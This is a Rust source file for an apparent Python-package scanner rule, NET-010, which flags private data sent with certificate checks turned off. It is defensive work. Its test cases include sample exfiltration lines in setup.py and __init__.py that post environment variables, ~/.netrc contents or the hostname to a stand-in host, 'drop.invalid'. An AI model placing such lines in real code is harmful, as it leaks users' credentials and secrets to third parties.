//! `NET-010`: private data is sent to a server that is not checked.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, is_private, sends};
use super::{Rule, in_context, observe_flow};
use crate::python::{Analysis, Call, Folded, Label, Module};

/// The rule.
pub(super) struct TlsOff;

impl Rule for TlsOff {
    fn id(&self) -> &'static str {
        "NET-010"
    }

    fn severity(&self) -> Severity {
        Severity::Medium
    }

    fn title(&self) -> &'static str {
        "private data is sent without checking the server"
    }

    fn manual(&self) -> &'static str {
        "Secrets, files or facts about the machine are sent by a call that does not check \
         whom it speaks to: `verify=False`, an unverified context, `CERT_NONE`.\n\n\
         Thieves switch the check off because their servers have no certificate. \
         Everybody else gives the data to whoever stands between.\n\n\
         Mistaken for it: tests against a server of one's own."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let sink = analysis.sink(flow);
            let is_telling = is_private(flow.label) && flow.label != Label::UserInput;
            if !is_telling
                || !sends(flow.kind)
                || !is_unchecked(sink, &analysis.modules[flow.module])
            {
                continue;
            }
            let worst = if flow.hops > FAR {
                Severity::Low
            } else {
                Severity::Medium
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(85).in_context(flow.context);
            let message = format!(
                "{} sends {} without checking to whom",
                sink.target, flow.what
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
    }
}

/// Whether the call, or the module it stands in, gives up checking certificates.
fn is_unchecked(call: &Call, module: &Module) -> bool {
    let is_off = call.arguments.iter().any(|each| {
        matches!(&*each.keyword, "verify" | "ssl" | "verify_ssl")
            && each.value == Folded::Bool(false)
    });
    let gives_up = |call: &Call| {
        &*call.target == "ssl._create_unverified_context" || call.code.contains("CERT_NONE")
    };
    let is_patched = module.patches.iter().any(|patch| {
        let target = &*patch.target;
        target.ends_with("_create_default_https_context")
            || target.ends_with(".verify_mode") && patch.code.contains("CERT_NONE")
            || target.ends_with(".verify") && patch.value == Folded::Bool(false)
    });
    is_off || is_patched || module.calls.iter().any(gives_up)
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn private_data_without_a_check_is_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import os, requests\nrequests.post('https://drop.invalid', json=dict(os.environ), verify=False)",
            ),
            (
                "setup.py",
                "import ssl, urllib.request as u, os\nc = ssl._create_unverified_context()\nu.urlopen('https://drop.invalid', data=open(os.path.expanduser('~/.netrc'), 'rb').read(), context=c)",
            ),
            (
                "demo/__init__.py",
                "import ssl, socket, urllib.request\nssl._create_default_https_context = ssl._create_unverified_context\nurllib.request.urlopen('https://drop.invalid/?' + socket.gethostname())",
            ),
        ] {
            found("NET-010", path, code);
        }
    }

    #[test]
    fn either_alone_is_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests\nrequests.get('https://a.invalid', verify=False)",
            ),
            (
                "demo/__init__.py",
                "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ), verify=True)",
            ),
            (
                "tests/test_a.py",
                "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ), verify=False)",
            ),
        ] {
            quiet("NET-010", path, code);
        }
    }
}
